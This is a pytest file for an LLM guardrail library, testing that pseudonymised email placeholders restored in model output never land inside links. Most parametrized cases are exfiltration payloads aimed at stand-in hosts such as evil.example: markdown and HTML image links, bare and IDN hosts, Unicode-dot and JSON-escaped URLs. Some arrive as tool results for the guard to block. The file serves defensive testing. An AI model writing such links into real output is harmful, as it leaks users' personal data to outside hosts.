"""Placeholders cannot be turned into a side channel (issue 13)."""

from __future__ import annotations

from typing import Any

import pytest

from guardrails_lite import Blocked, Guard, parse_policy
from tests.conftest import scripted

EMAIL = "jane.doe@corp-mail.com"
PII_ONLY = parse_policy(
    {
        "name": "pii",
        "input": [{"use": "pii", "operator": "pseudonymise", "on_fail": "repair"}],
        "output": [{"use": "pii", "restore": True, "on_fail": "repair"}],
    }
)


def echo(*answers: str) -> Any:
    llm, _ = scripted(*answers)
    return llm


@pytest.mark.parametrize(
    "link",
    [
        "[track](https://evil.example/?who=<EMAIL_ADDRESS_1>)",
        "![p](https://evil.example/p.png?u=<EMAIL_ADDRESS_1>)",
        '<img src="https://evil.example/p.png?u=<EMAIL_ADDRESS_1>">',
        "<a href=https://evil.example/<EMAIL_ADDRESS_1>>x</a>",
        "[docs][1]\n\n[1]: https://evil.example/<EMAIL_ADDRESS_1>",
        "see https://evil.example/?who=<EMAIL_ADDRESS_1> now",
        # Without a scheme: chat apps and linkify still make these links (review r13a L4).
        "Visit evil.example/c?e=<EMAIL_ADDRESS_1> today",
        "evil.co/x/<EMAIL_ADDRESS_1>",
        "see evil.example?e=<EMAIL_ADDRESS_1>",
        "go to sub.evil.example:8080/<EMAIL_ADDRESS_1>",
        # A host with no path carries the value in its name (review r14a L1), also behind IDN dots and slashes.
        "Status page: <EMAIL_ADDRESS_1>.evil.co for details.",
        "status: <EMAIL_ADDRESS_1>.EVIL.CO",
        # Any case and IDN top-level domains, more IDN dots (review r15a L1).
        "Status page: <EMAIL_ADDRESS_1>.evil.Co for details.",
        "see <EMAIL_ADDRESS_1>.evil.xn--p1ai now",
        "see <EMAIL_ADDRESS_1>\ufe52evil\ufe52co now",
        "see <EMAIL_ADDRESS_1>.a.evil.example now",
        "请点击evil\u3002co\uff1fd=<EMAIL_ADDRESS_1>",
        # Non-ASCII top-level domains behind an ASCII dot are hosts (review r15b M6).
        "Visit evil.中国/c?e=<EMAIL_ADDRESS_1> today",
        "see x.みんな/?u=<EMAIL_ADDRESS_1> now",
        "Visit evil\u3002co/c?e=<EMAIL_ADDRESS_1> today",
        "Visit evil.co\\c=<EMAIL_ADDRESS_1> today",
        "Visit evil.co\uff0fc?e=<EMAIL_ADDRESS_1> today",
        # CommonMark destinations in angle brackets hold spaces and may stand on the next line, reference
        # definitions may sit in block quotes and list items; browsers read "/" after a tag name (review r16a H3).
        "![status][1]\n\n[1]: <https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
        "![s](\n<https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>)",
        "![status][1]\n\n[1]:\n    <https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
        "![q][1]\n\n> [1]: <https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
        "![q][1]\n\n- item\n\n  [1]: <//evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
        '<img/src="https://evil.example/p.png?d= <EMAIL_ADDRESS_1>">',
        # A backslash-escaped bracket does not end the destination (review r16b).
        "![q][1]\n\n> [1]: <https://evil.example/p.png?d=\\> <EMAIL_ADDRESS_1>>\n",
        "![q](<https://evil.example/p.png?d=\\< <EMAIL_ADDRESS_1>>)",
    ],
)
def test_restore_never_writes_into_a_link(link: str) -> None:
    result = Guard(PII_ONLY).run(echo(f"Done. {link} Your address is <EMAIL_ADDRESS_1>."), f"I am {EMAIL}.")
    assert result.text.endswith(f"Your address is {EMAIL}.")  # restored in prose
    assert result.text.count(EMAIL) == 1  # never in the link
    assert "<EMAIL_ADDRESS_1>" in result.text


@pytest.mark.parametrize(
    "prose",
    [
        "Write to <EMAIL_ADDRESS_1>.",
        "Write to <EMAIL_ADDRESS_1>.Thanks",
        "Cc <EMAIL_ADDRESS_1>, e.g. for v2.0 notes.",
        # A value in the last two labels names a domain nobody owns before seeing it: a typo or a file name.
        "Thanks <EMAIL_ADDRESS_1>.talk soon.",
        "Attach it as CV_<EMAIL_ADDRESS_1>.pdf please.",
        # Chinese and Japanese questions: "。" then a sentence and "？" are no host and path (review r15a M11).
        "<EMAIL_ADDRESS_1>さん、こんにちは。明日の会議に来られますか？",
        "你好<EMAIL_ADDRESS_1>。明天的会议你能来吗？",
    ],
)
def test_restore_still_writes_prose_beside_dots(prose: str) -> None:
    result = Guard(PII_ONLY).run(echo(prose), f"I am {EMAIL}.")
    assert result.text == prose.replace("<EMAIL_ADDRESS_1>", EMAIL)


@pytest.mark.parametrize(
    "tool_result",
    [
        "Status ok. [track](https://evil.example/?who=<EMAIL_ADDRESS_1>)",
        'Status ok. <img src="https://evil.example/p.png?u=<EMAIL_ADDRESS_1>">',
        "Status ok, see [the log][ref].\n\n[ref]: https://evil.example/?u=<EMAIL_ADDRESS_1>",
        "Status ok. ![s](https://evil.example/s.png?u=%3CEMAIL_ADDRESS_1%3E)",
    ],
)
def test_the_default_policy_blocks_links_carrying_the_guards_placeholders(tool_result: str) -> None:
    messages = [
        {"role": "user", "content": f"My address is {EMAIL}; check my order."},
        {"role": "tool", "tool_call_id": "c1", "content": tool_result},
    ]
    llm, seen = scripted("unused")
    with pytest.raises(Blocked) as e:
        Guard("policies/default.yaml").run(llm, messages)
    assert any(f.message == "data exfiltration link" for f in e.value.findings)
    assert seen == []  # the model was never called


def test_a_typed_placeholder_never_collides_with_a_real_value() -> None:
    messages = [
        {"role": "user", "content": "Please quote <EMAIL_ADDRESS_1> literally, it is a template variable."},
        {"role": "user", "content": f"My address is {EMAIL}."},
    ]
    llm, seen = scripted("The template says <EMAIL_ADDRESS_1>.")
    result = Guard(PII_ONLY).run(llm, messages)
    sent = seen[0][1]["content"]
    assert EMAIL not in sent and "<EMAIL_ADDRESS_1>" not in sent  # the real address got another tag
    assert result.text == "The template says <EMAIL_ADDRESS_1>."  # the literal is never restored


@pytest.mark.parametrize(
    "prose",
    [
        "Your address is <EMAIL_ADDRESS_1>.",  # a sentence's full stop is no host
        "Send it to <EMAIL_ADDRESS_1>/the team.",  # a slash after a placeholder alone is no link
        "Version 2.0 is out; write to <EMAIL_ADDRESS_1>.",
        # Angle brackets without a URL inside, or a URL in brackets of its own, leave prose beside them alone.
        "Write to <EMAIL_ADDRESS_1> or <b>call</b>.",
        "Hi <EMAIL_ADDRESS_1>, see <https://docs.example/faq>.",
    ],
)
def test_restore_still_writes_into_prose(prose: str) -> None:
    result = Guard(PII_ONLY).run(echo(prose), f"I am {EMAIL}.")
    assert EMAIL in result.text and "<EMAIL_ADDRESS_1>" not in result.text


def test_bare_host_sinks_are_linear() -> None:
    from guardrails_lite.validators._shared.links import _BARE_HOST

    # Started only at a word run's first character: a long dotted run is read from one place.
    assert _BARE_HOST.pattern.startswith("(?<![\\w.-])")
    assert _BARE_HOST.search("x" + ".a" * 50_000 + "/") is not None
    assert _BARE_HOST.search(".a" * 50_000) is None


@pytest.mark.parametrize(
    "args",
    [
        '{"url": "https:\\u002F\\u002Fevil\\u002Eexample\\u002Fc?d=<EMAIL_ADDRESS_1>"}',
        '{"url": "https\\u003A//evil\\u002Eexample/c?d=<EMAIL_ADDRESS_1>"}',
        '{"url": "evil\\u002eexample\\u002fc?d=<EMAIL_ADDRESS_1>"}',
        '["see", "https:\\/\\/evil.example\\/c?d=<EMAIL_ADDRESS_1>"]',
    ],
)
def test_json_escapes_do_not_hide_a_link_from_restore(args: str) -> None:
    # A tool call's arguments (or a JSON answer) are parsed by the application: what it reads must not be a URL
    # carrying the user's value (review r16a H4).
    import json

    result = Guard(PII_ONLY).run(echo(args), f"I am {EMAIL}.")
    assert EMAIL not in json.dumps(json.loads(result.text), ensure_ascii=False)
    assert "<EMAIL_ADDRESS_1>" in result.text


def test_json_with_escapes_is_still_restored_in_prose() -> None:
    import json

    result = Guard(PII_ONLY).run(echo('{"note": "Caf\\u00e9 booked for <EMAIL_ADDRESS_1>."}'), f"I am {EMAIL}.")
    assert json.loads(result.text) == {"note": f"Café booked for {EMAIL}."}
